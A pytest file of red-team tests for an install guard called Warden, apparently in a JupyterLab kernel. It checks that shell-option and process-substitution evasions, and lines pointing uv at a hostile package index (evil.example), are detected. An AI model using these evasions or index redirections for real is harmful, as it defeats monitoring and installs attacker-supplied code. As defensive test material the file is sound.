"""Red team 14: a shell's command line read as the shell reads it (R14-33, R14-32 folded in)
and bash's process substitution read as a line (R14-36).

R14-33: Warden took the first word after the shell's name that did not start with ``-`` as the
script file, so a valued option (``bash -o pipefail -c TEXT``, the Dockerfile SHELL form), a
``+`` option (``sh +e -c TEXT``) or an option after ``-c`` (``sh -c -- TEXT``) hid the command
text. R14-36: ``cat <(TEXT)`` in bash runs TEXT, which was not read as a line of its own.

The malicious lines build the installer's name with an expansion (``u$@v``) and prove
themselves in a kernel of the lab's launch environment: without Warden they install from the
local index; with Warden they are refused before uv runs. The option grammar is also checked
against the real bash and dash (what they run is what Warden reads).
"""

import subprocess

import pytest
from launched import BUILT, installed, system_cell

from jupyterlab_warden.kernel.guard.installs import commands, shell_options


def _run(argv) -> str:
    return f"import subprocess\nsubprocess.run({argv!r})\n"


CASES = {
    "bash -o pipefail -c (Dockerfile SHELL)": system_cell(f"bash -o pipefail -c '{BUILT}'"),
    "argv bash -eo pipefail -c": _run(["bash", "-eo", "pipefail", "-c", BUILT]),
    "sh -o errexit -c": system_cell(f"sh -o errexit -c '{BUILT}'"),
    "bash -O extglob -c": system_cell(f"bash -O extglob -c '{BUILT}'"),
    "sh +e -c": system_cell(f"sh +e -c '{BUILT}'"),
    "sh -c -- TEXT": system_cell(f"sh -c -- '{BUILT}'"),
    "argv bash -c -x TEXT": _run(["bash", "-c", "-x", BUILT]),
    "bash --norc --rcfile F -c": system_cell(f"bash --norc --rcfile /dev/null -c '{BUILT}'"),
    "timeout 60 bash -o pipefail -c": system_cell(f"timeout 60 bash -o pipefail -c '{BUILT}'"),
    "nice sh +e -c": system_cell(f"nice sh +e -c '{BUILT}'"),
    "R14-36 cat <(...)": _run(["bash", "-c", f"cat <({BUILT})"]),
    "R14-36 echo x > >(...)": _run(["bash", "-c", f"echo x > >({BUILT}); wait"]),
}


@pytest.mark.parametrize("cell", CASES.values(), ids=CASES.keys())
def test_the_command_text_behind_shell_options_is_read(kernel, cell):
    assert "Warden" in kernel.proves(cell)


# option spellings: (args after the shell's name, the command text or None = a script file)
GRAMMAR = [
    (["-o", "pipefail", "-c", "T"], "T"),
    (["-eo", "pipefail", "-c", "T"], "T"),
    (["-co", "pipefail", "T"], "T"),
    (["-oc", "pipefail", "T"], "T"),
    (["+O", "extglob", "-c", "T"], "T"),
    (["+e", "-c", "T"], "T"),
    (["+c", "T"], "T"),
    (["-c", "--", "T"], "T"),
    (["-c", "-", "T"], "T"),
    (["-c", "-x", "T"], "T"),
    (["-c", "+x", "T"], "T"),
    (["-s", "-c", "T"], "T"),
    (["--norc", "--noprofile", "-c", "T"], "T"),
    (["-norc", "-c", "T"], "T"),
    (["--init-file", "/dev/null", "-c", "T"], "T"),
    (["--", "-c", "T"], None),
    (["-", "-c", "T"], None),
    (["-o", "pipefail", "T"], None),
]


@pytest.mark.parametrize("args, text", GRAMMAR, ids=[" ".join(a) for a, _ in GRAMMAR])
def test_options_are_parsed_as_bash_parses_them(args, text):
    start = shell_options.parse(args)
    assert start.command is (text is not None)
    if text is not None:
        assert args[start.operand] == text


@pytest.mark.parametrize("shell", ["bash", "dash"])
@pytest.mark.parametrize("args, _text", GRAMMAR, ids=[" ".join(a) for a, _ in GRAMMAR])
def test_what_the_real_shell_runs_is_what_warden_reads(shell, args, _text):
    """Where the real shell runs the text as its command, Warden reads it as the command."""
    argv = [installed(shell)] + [("echo RAN-AS-COMMAND" if a == "T" else a) for a in args]
    run = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=20)
    try:
        start = shell_options.parse(argv[1:])
    except shell_options.UnknownOption:
        assert run.returncode != 0  # the shell refuses the word too
        return
    if "RAN-AS-COMMAND" in run.stdout:
        assert start.command and argv[1 + start.operand] == "echo RAN-AS-COMMAND"


@pytest.mark.parametrize(
    "args", [["-x", "--norc", "-c", "T"], ["--rcfile=/dev/null", "-c", "T"], ["-J", "-c", "T"]]
)
def test_an_option_word_the_grammar_does_not_place_is_unreadable(args):
    with pytest.raises(commands.Unreadable, match="does not model"):
        commands.shell_invocations(" ".join(["bash"] + args[:-1] + ["'pip install numpy'"]), 0, {})


@pytest.mark.parametrize(
    "line",
    [
        "bash -o keyword -c 'uv pip install black UV_INDEX_URL=https://evil.example/s'",
        "bash -ko pipefail -c 'uv pip install black UV_INDEX_URL=https://evil.example/s'",
        "bash +k -k -c 'uv pip install black UV_INDEX_URL=https://evil.example/s'",
        "set -ko pipefail; uv pip install black UV_INDEX_URL=https://evil.example/s",
    ],
)
def test_keyword_in_any_spelling_makes_the_trailing_word_the_environment(line):
    (found,) = commands.shell_invocations(line, 0, {})
    assert found.env.get("UV_INDEX_URL") == "https://evil.example/s"


@pytest.mark.parametrize(
    "line",
    [
        "bash -o pipefail -c 'pip install numpy'",
        "set -euxo pipefail; pip install -r requirements.txt",
        "bash -ic 'ls'",
        "diff <(sort a.txt) <(sort b.txt)",
        "while read l; do echo $l; done < <(ls)",
        "bash -x script.sh",
    ],
)
def test_ordinary_lines_are_read(line):
    commands.shell_invocations(line, 0, {})  # no Unreadable
